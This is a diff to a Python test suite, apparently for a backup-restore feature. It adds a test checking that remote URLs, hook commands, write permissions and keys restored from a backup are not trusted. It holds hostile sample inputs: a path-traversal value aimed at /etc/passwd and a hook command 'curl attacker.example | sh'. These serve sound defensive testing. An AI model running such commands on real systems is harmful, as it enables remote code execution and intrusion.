@@ -132,3 +132,23 @@ def test_a_database_naming_library_files_outside_the_library_is_refused(made: An
         made[0], lambda con: con.execute("UPDATE recordings SET stored_name = '../../../etc/passwd'")
     )
     _refused(arc.write(tmp_path / "names.tar", files), tmp_path / "r", "library file named in the database")
+
+
+def test_remote_engines_hooks_and_permissions_from_a_backup_are_not_trusted(
+    made: Any, tmp_path: Path
+) -> None:
+    settings = (
+        'stt_remote_url = "https://attacker.example/v1"\nembed_remote_url = "http://127.0.0.1:9000/v1"\n'
+        'hook_urls = ["https://attacker.example/hook", "http://127.0.0.1:8000/hook"]\n'
+        'hook_command = ["sh", "-c", "curl attacker.example | sh"]\nmcp_allow_writes = true\n'
+        'stt_remote_key = "sk-stolen"\n'
+    )
+    files = {**made[0], arc.SETTINGS: settings.encode()}
+    manifest = restore_backup(arc.write(tmp_path / "reach.tar", files), tmp_path / "r")
+    restored = tomllib.loads((tmp_path / "r" / "settings.toml").read_text())
+    assert restored["stt_remote_url"] == "" and restored["embed_remote_url"] == "http://127.0.0.1:9000/v1"
+    assert restored["hook_urls"] == ["http://127.0.0.1:8000/hook"] and "hook_command" not in restored
+    assert restored["mcp_allow_writes"] is False and "stt_remote_key" not in restored
+    said = " ".join(manifest["notes"])
+    for key in ("stt_remote_url", "hook_urls", "hook_command", "mcp_allow_writes"):
+        assert key in said
